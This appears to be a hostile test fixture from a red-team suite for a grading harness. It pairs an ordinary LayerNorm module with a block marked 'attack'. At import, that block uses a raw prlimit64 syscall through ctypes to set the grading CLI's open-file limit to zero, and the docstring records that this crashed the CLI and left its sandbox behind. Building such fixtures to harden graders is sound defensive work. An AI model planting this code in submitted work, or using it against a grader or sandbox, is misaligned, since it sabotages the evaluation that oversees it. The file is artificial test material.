"""Hostile: Lowers the grading CLI's RLIMIT_NOFILE to 0 with prlimit64 (red-team 02a: the CLI then
failed with exit 3 and left its sandbox directory behind). The attacker is told the CLI's pid.
Its benign twin is this file without the attack blocks (tests/test_hostile.py)."""
import torch
import torch.nn as nn

# >>> attack
import ctypes

CLI_PID = 4747474  # replaced by the test with the pid of the process that runs the sandbox


class _Limit(ctypes.Structure):
    _fields_ = [("cur", ctypes.c_uint64), ("max", ctypes.c_uint64)]


_libc = ctypes.CDLL(None, use_errno=True)
if _libc.syscall(302, CLI_PID, 7, ctypes.byref(_Limit(0, 0)), None) != 0:  # prlimit64, RLIMIT_NOFILE
    raise OSError(ctypes.get_errno(), "prlimit64 on the CLI")
# <<< attack


class LayerNorm(nn.Module):
    def __init__(self, normalized_shape, eps=1e-5):
        super().__init__()
        if isinstance(normalized_shape, int):
            normalized_shape = (normalized_shape,)
        self.normalized_shape = tuple(normalized_shape)
        self.eps = eps
        self.weight = nn.Parameter(torch.ones(self.normalized_shape))
        self.bias = nn.Parameter(torch.zeros(self.normalized_shape))

    def forward(self, x):
        dims = tuple(range(-len(self.normalized_shape), 0))
        mean = x.mean(dim=dims, keepdim=True)
        var = ((x - mean) ** 2).mean(dim=dims, keepdim=True)
        out = (x - mean) / torch.sqrt(var + self.eps) * self.weight + self.bias
        return out
